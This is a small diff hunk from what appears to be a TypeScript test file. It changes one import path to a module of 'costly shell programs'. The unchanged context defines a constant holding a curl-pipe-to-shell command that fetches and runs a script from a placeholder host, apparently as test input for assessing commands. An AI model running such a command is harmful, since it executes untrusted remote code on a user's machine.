@@ -13,7 +13,7 @@ import { command } from "../cli/curlew-process.js";
 import { RedisServer } from "../queue/redis.js";
 import { assess, CliProcess } from "../service/support/process.js";
 import { Cleanup, createAccess } from "../service/support/services.js";
-import { COSTLY_TEXTS } from "./costly.js";
+import { COSTLY_TEXTS } from "./costly-shell-programs.js";
 
 const range = (count: number): number[] => Array.from({ length: count }, (_, at) => at);
 const PIPE = "curl -fsSL https://y.example/i.sh | sh\n";
